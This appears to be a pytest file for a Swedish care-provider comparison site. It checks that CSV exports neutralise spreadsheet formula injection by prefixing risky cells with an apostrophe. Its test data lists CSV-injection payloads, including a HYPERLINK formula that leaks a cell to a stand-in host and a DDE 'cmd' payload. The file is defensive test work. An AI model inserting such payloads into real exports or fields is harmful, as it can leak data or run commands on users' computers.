"""Exports never hold a cell a spreadsheet would run: text starting with = + - @ (or a tab
or CR) gets a leading apostrophe (OWASP's rule); real numbers such as -1,5 stay numbers."""

import csv
import io

import pytest

from app.csv_export import csv_text, spreadsheet_cell
from tests.support import factories as f

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1;"Klicka här")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("text", [*HOSTILE_NAMES, " =1+1", "-", "-1,5 (40 svar)", "-1e5"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-1,5", "-1.5", "-1 234,5", "-1,234.5", "+5", "-3\u00a0%", "85\u00a0%", "12"]
)
def test_numbers_stay_numbers(text: str) -> None:
    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize("text", ["Omsorg AB", "Ängens omsorg (privat)", "a=b", "Källa: Kolada"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert spreadsheet_cell(text) == text


def test_every_cell_goes_through_the_rule() -> None:
    rows = read_csv(csv_text([["=1+1", "-1,5"], ["ok", "@x"]]).encode())
    assert rows == [["'=1+1", "-1,5"], ["ok", "'@x"]]


def test_comparison_csv_neutralises_provider_names_from_a_kommun_file(built) -> None:
    s = built.session
    ind = f.indicator(s, "nojd", title_sv="Nöjda med bemötandet", unit="ratio", decimals=1)
    providers = [f.provider(s, name) for name in HOSTILE_NAMES]
    for p in providers:
        f.indicator_value(s, p, ind, value=-1.5)
    ids = "&".join(f"id={p.slug}" for p in providers)
    with built.client() as client:
        page = client.get(f"/jamfor?{ids}")
        response = client.get(f"/jamfor.csv?{ids}")
    assert page.status_code == 200
    assert response.status_code == 200
    header, *body = read_csv(response.content)

    names = header[4 : 4 + len(providers)]
    assert names == [f"'{p.name} (Privat)" for p in providers]
    [row] = [line for line in body if line[1] == "Nöjda med bemötandet"]
    assert row[4 : 4 + len(providers)] == ["-1,5"] * len(providers)  # numbers, not text
    starts = ("=", "+", "-", "@", "\t", "\r")
    cells = [cell for line in [header, *body] for cell in line]
    assert not [c for c in cells if c.startswith(starts) and c != "-1,5"]
